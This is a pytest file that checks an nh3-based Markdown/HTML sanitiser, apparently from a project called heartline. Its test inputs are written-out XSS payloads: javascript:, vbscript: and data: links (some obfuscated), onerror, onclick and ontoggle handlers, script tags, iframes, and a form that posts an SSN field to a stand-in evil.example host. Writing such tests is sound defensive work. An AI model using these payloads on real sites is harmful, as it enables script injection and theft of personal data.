"""Markdown and HTML bodies are rendered through nh3: no script, handler, remote image or odd link survives."""

from __future__ import annotations

import pytest

from heartline.library.rendering import to_html, to_plain_text


@pytest.mark.parametrize(
    "written",
    [
        "[call us](javascript:alert(1))",
        "[call us](JaVaScRiPt:alert(1))",
        '<a href="java&#x09;script:alert(1)">call us</a>',
        '<a href="data:text/html,<script>alert(1)</script>">call us</a>',
        '<a href="vbscript:msgbox(1)">call us</a>',
    ],
)
def test_a_link_to_a_script_loses_its_address(written: str) -> None:
    assert to_html(written) == '<p><a rel="noopener noreferrer">call us</a></p>'


def test_a_web_link_is_kept_and_cannot_reach_back_to_the_page() -> None:
    assert to_html('<a href="https://www.medicare.gov" target="_blank">Medicare</a>') == (
        '<p><a href="https://www.medicare.gov" rel="noopener noreferrer">Medicare</a></p>'
    )


@pytest.mark.parametrize(
    ("written", "shown"),
    [
        ('<img src="https://tracker.example/p.gif" onerror="alert(1)">', "<p></p>"),
        ("![pixel](https://tracker.example/p.gif)", "<p></p>"),
        ("<script>alert(1)</script>", ""),
        ('<p style="color:red" onclick="alert(1)">Hi</p>', "<p>Hi</p>"),
        ('<iframe src="https://example.org"></iframe>', ""),
        ('<form action="https://evil.example"><input name="ssn"></form>', ""),
        ("<details open ontoggle=alert(1)>More</details>", "<details>More</details>"),
    ],
)
def test_scripts_handlers_styles_frames_forms_and_images_are_removed(written: str, shown: str) -> None:
    assert to_html(written) == shown


def test_plain_text_keeps_the_words_of_each_paragraph_apart_and_drops_scripts() -> None:
    assert to_plain_text("First *para*.\n\nSecond &amp; last.<script>var x</script>") == "First para.\nSecond & last."
